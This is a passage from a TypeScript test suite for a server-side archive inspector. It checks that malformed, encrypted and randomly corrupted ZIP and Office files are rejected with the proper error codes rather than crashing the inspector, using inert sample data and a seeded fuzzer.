    await expectRefused(
      zipOf({ 'inner.tar.zst': Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0, 0, 0, 0]) }),
      'archive_unreadable',
    );
  });

  it('refuses a malformed OLE2 file', async () => {
    const garbage = Buffer.concat([
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
      Buffer.alloc(600, 0xab),
    ]);
    await expectRefused(zipOf({ 'old.doc': garbage }), 'archive_unreadable');
  });

  it('refuses an OOXML document encrypted inside a zip', async () => {
    const { default: CFB } = await import('cfb');
    const container = CFB.utils.cfb_new();
    CFB.utils.cfb_add(container, '/EncryptionInfo', Buffer.alloc(32));
    CFB.utils.cfb_add(container, '/EncryptedPackage', Buffer.alloc(64));
    const encrypted = Buffer.from(CFB.write(container, { type: 'buffer' }) as Uint8Array);
    await expectRefused(zipOf({ 'secret.docx': encrypted }), 'archive_unreadable');
  });

  it('lets an I/O error on its own file through as a server fault', async () => {
    const error: unknown = await inspectZip(`${dir}/missing.zip`).catch((caught: unknown) => caught);
    expect(error).not.toBeInstanceOf(AppError);
  });
});

describe('inspectZip on damaged input', () => {
  /** A small deterministic generator (mulberry32), so a failure can be replayed. */
  function random(seed: number): () => number {
    let state = seed;
    return () => {
      state = (state + 0x6d2b79f5) | 0;
      let value = Math.imul(state ^ (state >>> 15), 1 | state);
      value = (value + Math.imul(value ^ (value >>> 7), 61 | value)) ^ value;
      return ((value ^ (value >>> 14)) >>> 0) / 4294967296;
    };
  }

  it('answers every corrupted archive with a pass or an archive error, never a crash or a hang', async () => {
    const next = random(42);
    const seeds = [
      await docx({ extraEntries: { 'word/embeddings/oleObject1.bin': packagedObjectOle2('a.txt', text('hello')) } }),
      await zipOf({ 'a.txt': 'hello world '.repeat(100), 'b.zip': await zipOf({ 'c.txt': 'x' }) }),
    ];
    const archiveCodes = [
      'archive_bomb',
      'archive_path_traversal',
      'archive_executable',
      'archive_macro',
      'archive_unreadable',
    ];
    for (const seed of seeds) {
      for (let round = 0; round < 150; round += 1) {
        const bytes = Buffer.from(seed);
        for (let flip = 0; flip < 3; flip += 1) {
          bytes[Math.floor(next() * bytes.length)] = Math.floor(next() * 256);
        }
        const outcome = await inspect(bytes).then(
          () => 'passed',
          (error: unknown) => (error instanceof AppError ? error.code : 'crashed'),
        );
        expect(['passed', ...archiveCodes]).toContain(outcome);
      }
    }
  });
});

describe('inspectArchive', () => {
  it('inspects ZIP and OOXML types and lets other types through', async () => {
    const bad = await writeSample(dir, 'bad.zip', await zipOf({ 'a.exe': 'x' }));
    await expect(inspectArchive({ path: bad, mimeType: MIME_ZIP })).rejects.toMatchObject({
      code: 'archive_executable',
    });
    await expect(inspectArchive({ path: bad, mimeType: MIME_DOCX })).rejects.toMatchObject({
      code: 'archive_executable',
    });
    await expect(inspectArchive({ path: bad, mimeType: MIME_TEXT })).resolves.toBeUndefined();
  });
});

/** Inflated and compressed sizes of the sheet part, read from its central directory entry. */
function sheetSizes(zip: Buffer): { inflatedBytes: number; compressedBytes: number } {
  const name = Buffer.from('xl/worksheets/sheet1.xml');
  let at = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
  while (at >= 0) {
    const nameLength = zip.readUInt16LE(at + 28);
    if (zip.subarray(at + 46, at + 46 + nameLength).equals(name)) {
      return { compressedBytes: zip.readUInt32LE(at + 20), inflatedBytes: zip.readUInt32LE(at + 24) };
    }
    at = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), at + 46);
  }
  throw new Error('sheet not found');
}
